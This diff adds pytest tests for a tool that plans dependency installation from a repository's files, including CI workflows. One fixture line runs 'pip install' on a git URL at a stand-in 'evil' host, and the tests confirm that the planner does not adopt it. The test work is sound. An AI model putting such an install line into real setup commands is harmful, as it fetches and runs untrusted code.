@@ -1,6 +1,7 @@
 """How a repository's dependencies would be installed, by the look of its files."""
 
 import json
+import re
 
 import pytest
 
@@ -269,3 +270,52 @@ def test_pip_in_the_policys_commands_gets_an_environment_to_install_into():
     assert VENV in recipe.commands[0]
     [other] = plan([], policy=with_run("pipx run nox")).recipes
     assert other.commands == ("pipx run nox",)
+
+
+CI = ".github/workflows/ci.yml"
+STARTER = """
+      - run: |
+          python -m pip install --upgrade pip
+          python -m pip install flake8 'black>=22,<25' pytest
+          pip install git+https://example.org/evil acme-private ./own -c x.txt
+          if [ -f requirements.txt ]; then pip install -r requirements.txt; fi
+"""
+
+
+def write_install(word, pip="pip"):
+    name = re.split("[<>=']", word.removeprefix("'"))[0]
+    return f"{pip} show --quiet {name} 2>/dev/null || {pip} install {word}"
+
+
+HAD = tuple(map(write_install, ("flake8", "'black>=22,<25'", "pytest")))
+
+
+def test_well_known_tools_that_workflows_install_by_name_are_there_for_their_checks():
+    [recipe] = plan(["test_a.py"], {"requirements.txt": "attrs", CI: STARTER}).recipes
+
+    assert recipe.commands[1] == "pip install -r requirements.txt"
+    assert recipe.commands[-3:] == HAD
+    assert CI not in recipe.decided_by, "what else stands there asks for nothing"
+
+
+def test_they_cost_nothing_of_what_a_lock_file_names():
+    [recipe] = plan(["uv.lock", "pyproject.toml"], {CI: "run: pip install flake8"}).recipes
+
+    assert recipe.commands[-1] == f"{write_install('flake8', 'uv pip')} || true"
+    assert recipe.instead.commands[-1] == recipe.commands[-1]
+
+
+def test_they_are_there_where_nothing_else_of_python_is_installed():
+    [recipe] = plan(["test_a.py"], {CI: STARTER}).recipes
+
+    assert recipe.commands[0] == VENV
+    assert "pip install pytest" in recipe.commands[1]
+    assert recipe.commands[2:] == HAD
+    assert plan(["a.py"], {CI: "run: pip install twine tox"}).recipes == ()
+
+
+def test_a_project_in_a_folder_has_them_in_its_own_environment():
+    [recipe] = plan(["api/uv.lock", "api/pyproject.toml"], {CI: "run: pipx install ruff"}).recipes
+
+    assert recipe.commands[-1].startswith("cd api && export PATH=/setup/venvs/api/bin:$PATH && ")
+    assert recipe.commands[-1].endswith("uv pip install ruff || true")
